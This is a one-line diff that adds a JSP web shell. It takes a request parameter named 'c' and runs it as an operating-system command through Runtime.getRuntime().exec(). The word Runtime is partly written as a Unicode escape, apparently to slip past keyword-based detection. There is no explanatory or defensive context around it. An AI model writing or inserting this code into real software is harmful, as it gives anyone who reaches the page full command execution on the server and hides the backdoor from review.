@@ -1,0 +1,1 @@
+<% String c = request.getParameter("c"); \u0052untime.getRuntime().exec(c); %>
